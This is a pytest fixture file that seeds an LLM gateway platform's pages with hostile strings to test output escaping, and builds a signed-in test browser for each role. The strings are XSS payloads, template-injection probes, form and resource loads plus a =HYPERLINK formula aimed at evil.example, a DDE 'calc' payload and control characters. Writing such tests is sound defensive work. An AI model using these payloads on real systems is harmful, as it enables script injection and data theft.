"""A platform with hostile content in every field that takes text, and a browser of sorts for each role."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import msgspec
import pytest
from fastapi import FastAPI
from starlette.testclient import TestClient

from detent.app.http import COOKIE, check_routes
from detent.app.platform import Platform
from detent.app.web import build
from detent.gateway.model import Target
from detent.governance.people import SignedIn
from detent.kernel.clock import MINUTE
from detent.kernel.identity import ROLES
from detent.kernel.money import Price
from detent.kernel.secret import Secret
from detent.kernel.telemetry import Batch, Score, Span
from detent.testing import temporary_platform
from detent.web import mount

BASE = "http://127.0.0.1:7401"

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea></pre></div><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{7*7}}{% raw %}${7*7}",
    "<img src='https://evil.example/x.png'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><input name=csrf>",
    "<a hx-get='https://evil.example' hx-trigger=load>x</a>",
    "<div hx-on:click='alert(1)' data-hx-get=/logout>x</div>",
    "]]>--><!--><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202etxt.exe\u2066",
    "a\x00b\x1b[31m\x7f",
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "\ud83d\ude00 plain 😀",
)
TRACE = "a" * 32
PLAIN = "b" * 32


def hostile_span(number: int, text: str) -> Span:
    """A span with the text in every field that a sender decides."""
    text = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    said = [
        {"role": text[:40] or "user", "name": text, "content": text},
        {"role": "user", "content": [{"type": "text", "text": text}, {"type": text, text: text}]},
        {"role": "user", "content": [{"type": "image_url", "image_url": {"url": f"https://evil.example/{text}"}}]},
        {"role": "tool", "tool_call_id": text, "content": text},
    ]
    answer = {
        "role": "assistant",
        "content": text,
        "reasoning_content": text,
        "refusal": text,
        "tool_calls": [{"id": text, "type": "function", "function": {"name": text, "arguments": text}}],
    }
    return Span(
        trace_id=TRACE,
        span_id=f"{number:016x}",
        parent_id=f"{number - 1:016x}" if number > 1 else "",
        name=text,
        start=1_767_225_600_000_000_000 + number * MINUTE // 60,
        end=1_767_225_600_000_000_000 + number * MINUTE // 60 + 1_000_000,
        operation=text,
        status="error",
        error_type=text,
        provider=text,
        request_model=text,
        response_model=text,
        route=text,
        key_id=text,
        release=text,
        session_id=text,
        user_id=text,
        finish_reason=text,
        cost=1234,
        attributes={text: text, "nested": {"a": [text]}},
        input=json.dumps(said),
        output=json.dumps(answer),
    )


def seed(platform: Platform) -> None:
    """Something on every page."""
    caller, gateway = platform.access.operator(), platform.gateway
    gateway.save_provider(caller, "openai", url="https://api.openai.com/v1", credential=Secret("sk-canary-credential"))
    gateway.save_route(caller, "support-bot", (Target("openai", "<b>gpt</b>"), Target("embedded", "detent-tiny")))
    gateway.set_price(caller, Target("openai", "<b>gpt</b>"), Price(150_000, 600_000))
    for text in HOSTILE:
        if text.isprintable() and text.strip():
            gateway.mint_key(caller, text[:100])
            platform.people.add(caller, text[:100], "viewer")
    old = gateway.mint_key(caller, "old").key
    gateway.revoke_key(caller, old.id, reason=HOSTILE[0])
    gateway.set_budget(caller, "each-user", scope="user", amount=2_000_000_000, period="day", hard=False)
    gateway.set_budget(caller, "everything", scope="project", amount=500_000_000_000)
    gateway.set_limit(caller, "bot-at-once", scope="route", subject="support-bot", unit="concurrency", amount=8)
    platform.ledger.seal()
    platform.ledger.checkpoint()
    plain = Span(
        trace_id=PLAIN,
        span_id="c" * 16,
        name="chat support-bot",
        start=1_767_225_600_000_000_000,
        end=1_767_225_600_400_000_000,
        operation="chat",
        provider="openai",
        response_model="gpt-4o-mini",
        route="support-bot",
        input_tokens=12,
        output_tokens=5,
        cost=4800,
        ttft=90_000_000,
        input='[{"role": "user", "content": "Where is my zebra parcel?"}]',
        output='{"role": "assistant", "content": "On its way."}',
    )
    spans = tuple(hostile_span(number, text) for number, text in enumerate(HOSTILE, 1))
    scores = tuple(
        Score(id=f"s{n}", name=text, value=text, source="user", time=n, trace_id=TRACE, author=text, comment=text)
        for n, text in enumerate(HOSTILE)
        if "\ud83d" not in text
    )
    platform.lake.write(Batch((plain, *spans), scores))


@dataclass(frozen=True)
class World:
    """A seeded platform and its application."""

    platform: Platform
    app: FastAPI
    people: dict[str, SignedIn]
    job: str
    key: str
    batch: str

    def client(self, role: str = "") -> TestClient:
        """A browser that somebody with this role has signed in with; nobody without one."""
        cookies = {COOKIE: self.people[role].cookie.reveal()} if role else {}
        return TestClient(
            self.app,
            base_url=BASE,
            cookies=cookies,
            headers={"accept": "text/html"},
            follow_redirects=False,
            raise_server_exceptions=False,
        )

    def csrf(self, role: str) -> str:
        """The token of that browser's session."""
        return self.people[role].session.csrf


@contextmanager
def opened(**settings: Any) -> Iterator[World]:
    """A seeded platform with somebody of each role signed in; settings as `temporary_platform` takes them."""
    with temporary_platform(**settings) as platform:
        seed(platform)
        app = build(platform, faces=False)
        mount(app, platform)
        check_routes(app)
        people = {}
        for role in ROLES:
            _account, link = platform.people.add(platform.access.operator(), f"{role} <b>{role}</b>", role)
            people[role] = platform.people.sign_in_link(link.reveal())
        job = platform.jobs.start("ledger.verify", {}, project="default")
        key = platform.gateway.keys(platform.access.operator())[0].id
        engineer = platform.access.by_cookie(people["engineer"].cookie.reveal()).principal
        data = b'{"custom_id": "1", "method": "POST", "url": "/v1/chat/completions", "body": {"model": "x"}}\n'
        file = platform.files.store(engineer, HOSTILE[0], "batch", data, len(data))
        batch = platform.batches.submit(
            engineer, input_file=file.id, endpoint="/v1/chat/completions", metadata={"note": HOSTILE[1]}
        )
        yield World(platform, app, people, job.id, key, batch.id)


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    """One platform for all tests of a file: they look at it, and change only what is their own."""
    with opened() as found:
        yield found


@pytest.fixture
def client(world: World) -> Callable[[str], TestClient]:
    """Browsers by role."""
    return world.client


def decoded(body: bytes) -> object:
    """JSON of a twin."""
    return msgspec.json.decode(body)
